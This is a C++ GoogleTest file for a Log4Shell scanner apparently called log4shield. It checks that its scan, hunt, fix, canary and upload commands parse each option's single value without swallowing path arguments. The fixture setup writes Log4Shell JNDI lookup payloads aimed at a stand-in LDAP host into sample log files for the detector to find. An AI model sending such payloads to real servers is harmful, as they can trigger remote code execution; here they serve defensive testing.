// Every repeatable option takes exactly one value per occurrence, in every
// command: PATHs after an option stay PATHs (`scan --exclude '*.bak'
// /opt/app` once took /opt/app as a second glob and scanned all of /).
#include <filesystem>
#include <fstream>
#include <string>

#include <gtest/gtest.h>
#include <nlohmann/json.hpp>

#include "shell.h"
#include "upload/test_http_server.h"

namespace {

namespace stdfs = std::filesystem;
using nlohmann::json;
using l4s::test::run_shell;
using l4s::test::shell_quote;

class CliOptions : public ::testing::Test {
 protected:
  void SetUp() override {
    dir_ = stdfs::path(L4S_TEST_TMP) / ("cli_options_" + std::string(::testing::UnitTest::GetInstance()->current_test_info()->name()));
    stdfs::remove_all(dir_);
    stdfs::create_directories(dir_ / "app");
    std::ofstream(dir_ / "app" / "app.log") << "GET /${jndi:ldap://203.0.113.9:1389/a} HTTP/1.1\n";
    std::ofstream(dir_ / "app" / "old.bak") << "GET /${jndi:ldap://203.0.113.9:1389/b} HTTP/1.1\n";
  }

  // Runs log4shield with `args`; the JSON report it printed.
  json run_json(const std::string& args, int* exit_code) {
    l4s::test::ShellResult r = run_shell(std::string(L4S_BINARY) + " " + args + " 2>/dev/null");
    *exit_code = r.exit_code;
    json j = json::parse(r.out, nullptr, false);
    EXPECT_FALSE(j.is_discarded()) << args << "\n" << r.out.substr(0, 1000);
    return j;
  }

  std::string app() const { return (dir_ / "app").string(); }

  stdfs::path dir_;
};

TEST_F(CliOptions, ScanKeepsThePathAfterExclude) {
  for (const std::string exclude : {"--exclude '*.bak' ", "--exclude=*.bak ", "--exclude '*.bak' --exclude '*.tmp' "}) {
    int rc = -1;
    json r = run_json("scan --quiet --format json " + exclude + shell_quote(app()), &rc);
    EXPECT_EQ(rc, 0) << exclude;
    EXPECT_EQ(r["roots"], json::array({app()})) << exclude;
    EXPECT_EQ(r["stats"]["files"], 1) << exclude << "the .bak file is excluded, nothing else is walked";
  }
}

TEST_F(CliOptions, HuntKeepsThePathAfterExclude) {
  for (const std::string exclude : {"--exclude '*.bak' ", "--exclude=*.bak "}) {
    int rc = -1;
    json r = run_json("hunt --format json " + exclude + shell_quote(app()), &rc);
    EXPECT_EQ(rc, 1) << exclude << ": the attempt in app.log is found";
    EXPECT_EQ(r["roots"], json::array({app()})) << exclude;
    EXPECT_EQ(r["stats"]["files"], 1) << exclude;
    ASSERT_EQ(r["detections"].size(), 1u) << exclude;
    EXPECT_EQ(r["detections"][0]["file"], app() + "/app.log");
  }
}

TEST_F(CliOptions, FixKeepsThePathAfterExclude) {
  int rc = -1;
  const std::string backups = shell_quote((dir_ / "backups").string());
  json r = run_json("fix --dry-run --quiet --format json --backup-dir " + backups + " --exclude '*.bak' " +
                        shell_quote(app()),
                    &rc);
  EXPECT_EQ(rc, 0);
  EXPECT_EQ(r["roots"], json::array({app()}));
  EXPECT_EQ(r["stats"]["files"], 1);
}

TEST_F(CliOptions, CanaryListenerOptionsTakeOneAddressEach) {
  // `--ldap ADDR extra`: the extra word is not a second listener but an
  // unexpected argument, refused before anything listens.
  l4s::test::ShellResult r = run_shell(std::string(L4S_BINARY) + " canary --db " +
                                       shell_quote((dir_ / "c.db").string()) +
                                       " --ldap 127.0.0.1:0 not-an-address --list 2>&1");
  EXPECT_EQ(r.exit_code, 64) << r.out;
  EXPECT_NE(r.out.find("not-an-address"), std::string::npos) << r.out;
}

TEST_F(CliOptions, UploadOptionsTakeOneValueEach) {
  // `--upload URL PATH`, `--outbox DIR PATH`, `--ca-cert FILE PATH`: PATH stays a path.
  l4s::test::TestHttpServer server;
  const std::string token = (dir_ / "token").string();
  std::ofstream(token) << "tok\n";
  const std::string ca = (dir_ / "ca.pem").string();
  std::ofstream(ca) << "not used over http\n";
  int rc = -1;
  json r = run_json("scan --quiet --format json --exclude '*.bak' --token-file " + shell_quote(token) +
                        " --outbox " + shell_quote((dir_ / "outbox").string()) + " --ca-cert " + shell_quote(ca) +
                        " --upload " + server.url() + " " + shell_quote(app()),
                    &rc);
  EXPECT_EQ(rc, 0);
  EXPECT_EQ(r["roots"], json::array({app()}));
  EXPECT_EQ(server.requests().size(), 1u);

  // fleet upload: `--outbox DIR FILE` sends FILE (and the empty outbox).
  const std::string saved = (dir_ / "saved.json").string();
  std::ofstream(saved) << r.dump(2) << "\n";
  l4s::test::ShellResult up = run_shell(std::string(L4S_BINARY) + " fleet upload --server " + server.url() +
                                        " --token-file " + shell_quote(token) + " --outbox " +
                                        shell_quote((dir_ / "outbox").string()) + " " + shell_quote(saved) + " 2>&1");
  EXPECT_EQ(up.exit_code, 0) << up.out;
  EXPECT_EQ(server.requests().size(), 2u) << up.out;
}

}  // namespace
